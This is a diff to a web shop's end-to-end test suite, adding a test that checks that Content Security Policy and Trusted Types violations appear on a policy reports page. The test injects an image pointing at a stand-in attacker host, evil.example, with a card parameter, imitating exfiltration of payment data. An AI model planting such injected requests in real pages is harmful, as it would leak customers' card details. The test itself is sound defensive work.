@@ -18,6 +18,26 @@ describe('strict policies and missing browser features', () => {
     expect(await shop.miniCart.panel.evaluate((panel) => getComputedStyle(panel).position)).toBe('fixed');
   });
 
+  test('what the policy of the shop’s pages blocks is listed on its page [DEC-Q392]', async () => {
+    const shop = await visit(productPath(PAPER.sku), { complaints: [/Content Security Policy/, /TrustedHTML/] });
+
+    await shop.page.evaluate(() => {
+      document.head.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x?card=1' }));
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
+      } catch {
+        // the policy throws
+      }
+    });
+
+    const listed = async () => {
+      await shop.goto('/webapp/policy');
+      return (await shop.page.getByRole('list', { name: 'Reports' }).textContent()) ?? '';
+    };
+    await expect.poll(listed).toMatch(/img-src blocked https:\/\/evil\.example\/x on \/webapp\/product\//);
+    await expect.poll(listed).toMatch(/require-trusted-types-for blocked trusted-types-sink/);
+  });
+
   test('if storage is denied, everything works, and the cart of the shop is displayed after a reload', async () => {
     const shop = await visit(productPath(PAPER.sku), {
       before: () => {
